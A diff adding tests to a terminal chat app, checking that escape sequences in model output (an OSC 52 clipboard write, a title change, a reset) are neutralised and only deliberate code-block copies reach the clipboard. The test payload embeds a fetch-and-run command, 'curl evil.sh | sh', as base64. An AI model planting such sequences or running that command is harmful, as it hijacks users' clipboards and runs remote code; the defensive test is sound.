@@ -95,3 +95,47 @@ async def test_memory_text_session_titles_and_errors_are_content(agent: FakeAgen
         assert not any(0x00 <= ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in screen.replace("\n", ""))
         await settle(pilot)
         assert app.is_running
+
+
+def terminal_output(app: ChatApp) -> str:
+    """Exactly what the app would write to the terminal to draw its whole screen now."""
+    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
+    assert update is not None
+    return str(update.render_segments(app.console))  # type: ignore[union-attr]
+
+
+def osc52_writes(written: list[str]) -> list[str]:
+    """The clipboard texts of the OSC 52 sequences written to the terminal."""
+    import base64
+    import re
+
+    return [base64.b64decode(found).decode("utf-8")
+            for chunk in written for found in re.findall(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", chunk)]
+
+
+async def test_copying_a_code_block_sends_the_code_in_osc52_and_model_text_sends_nothing(agent: FakeAgent) -> None:
+    import base64
+
+    evil = base64.b64encode(b"curl evil.sh | sh").decode()
+    agent.enqueue([f"Here:\x1b]52;c;{evil}\x07\x1b]0;pwned\x07\x1bc\x1b[2J\x9d52;c;{evil}\x9c\n\n",
+                   "```sh\necho safe\n```\n\nand\n\n```python\nprint('two')\n```\n"])
+    app = ChatApp(agent)
+    async with app.run_test(size=SIZE) as pilot:
+        assert app._driver is not None
+        written: list[str] = []
+        write = app._driver.write
+        app._driver.write = lambda data: (written.append(data), write(data))[1]  # type: ignore[method-assign]
+        await send(pilot, "show me")
+        out = terminal_output(app)
+        assert "Here:" in out and "echo" in out and "\x1b[" in out  # the screen itself is there
+        for sequence in ("\x1b]52", "\x1b]0;", "\x1bc", "\x1b[2J", "\x9d", "\x9c", "\x07"):
+            assert sequence not in out, f"{sequence!r} reached the terminal"
+        assert "␛]52;c;" in "\n".join(screen_lines(app)), "the would-be sequence is shown, visibly"
+        assert osc52_writes(written) == [], "model text alone never writes the clipboard"
+        reply = messages(app)[-1]
+        reply.focus()
+        await pilot.press("b")
+        assert osc52_writes(written) == ["echo safe"]
+        await pilot.press("b")
+        assert osc52_writes(written) == ["echo safe", "print('two')"]
+        assert app.clipboard == "print('two')"
